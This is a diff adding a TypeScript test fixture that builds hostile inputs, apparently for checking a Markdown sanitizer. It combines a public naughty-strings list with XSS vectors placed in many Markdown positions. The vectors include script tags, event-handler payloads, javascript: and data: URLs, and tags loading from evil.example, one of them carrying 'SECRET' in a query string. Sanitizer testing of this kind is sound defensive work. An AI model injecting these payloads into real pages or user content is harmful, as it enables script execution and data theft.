@@ -1,0 +1,71 @@
+import naughty from 'big-list-of-naughty-strings';
+
+/** HTML and addresses that load, run or send something where they are believed. */
+const VECTORS = [
+  '<script>alert(1)</script>',
+  '<script src=http://evil.example/s.js></script>',
+  '<img src=http://evil.example/i.png>',
+  '<img src=x onerror=alert(1)>',
+  '<IMG SRC="jav&#x09;ascript:alert(1)">',
+  '<img srcset="http://evil.example/a 1x, http://evil.example/b 2x">',
+  '<picture><source srcset=http://evil.example/p></picture>',
+  '<svg onload=alert(1)>',
+  '<svg><use href="http://evil.example/u.svg#x"/></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
+  '<video src=http://evil.example/v autoplay><track src=http://evil.example/t default></video>',
+  '<audio src=http://evil.example/a autoplay>',
+  '<iframe src=http://evil.example/f></iframe>',
+  '<iframe srcdoc="<img src=http://evil.example/sd>"></iframe>',
+  '<object data=http://evil.example/o></object>',
+  '<embed src=http://evil.example/e>',
+  '<form action=http://evil.example/fo><input type=submit></form>',
+  '<button formaction=javascript:alert(1)>x</button>',
+  '<input type=image src=http://evil.example/in>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<body onload=alert(1) background=http://evil.example/bg>',
+  '<table background=http://evil.example/tb><td>x</td></table>',
+  '<link rel=stylesheet href=http://evil.example/c.css>',
+  '<link rel=prefetch href=http://evil.example/pf>',
+  '<style>@import "http://evil.example/im.css"; body{background:url(http://evil.example/sb)}</style>',
+  '<div style="background:url(http://evil.example/dv);position:fixed;inset:0">x</div>',
+  '<base href=http://evil.example/>',
+  '<meta http-equiv=refresh content="0;url=http://evil.example/mr">',
+  '<a href=javascript:alert(1)>x</a>',
+  '<a href="http://evil.example/p" ping=http://evil.example/ping>x</a>',
+  '<template><img src=http://evil.example/tp></template>',
+  '<noscript><p title="</noscript><img src=http://evil.example/ns>">',
+  '<!--<img src="--><img src=http://evil.example/cm>">',
+  '<![CDATA[<img src=http://evil.example/cd>]]>',
+  '<x onclick=alert(1)>x</x>',
+  '"><img src=http://evil.example/br>',
+  '\u202Egnp.exe <img src=http://evil.example/rtl>',
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  '//evil.example/x',
+  'http://evil.example/?q=SECRET',
+  '\\"onmouseover=alert(1) x="',
+];
+
+/** Where a vector can stand in Markdown. */
+const PLACES: readonly ((vector: string) => string)[] = [
+  (vector) => vector,
+  (vector) => `![${vector}](${vector})`,
+  (vector) => `![a](<${vector}> "${vector}")`,
+  (vector) => `[${vector}](<${vector}>)`,
+  (vector) => `[a][r] ![b][r]\n\n[r]: <${vector}> '${vector}'`,
+  (vector) => `| a | b |\n|---|:-:|\n| ${vector} | ![x](${vector}) |`,
+  (vector) => `- [x] ${vector}\n  1. ${vector}`,
+  (vector) => `> ${vector}\n> ![q](${vector})`,
+  (vector) => `# ${vector}\n${vector}\n===`,
+  (vector) => `\`\`\`${vector.replaceAll('\n', ' ')}\n${vector}\n\`\`\``,
+  (vector) => `Text[^1] ${vector}\n\n[^1]: ![f](${vector}) ${vector}`,
+  (vector) => `**${vector}** ~~${vector}~~ \`${vector}\` <${vector}>`,
+];
+
+/** The public list of naughty strings, and each vector in each place. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...naughty.filter((text) => text !== ''),
+  ...VECTORS.flatMap((vector) => PLACES.map((place) => place(vector))),
+];
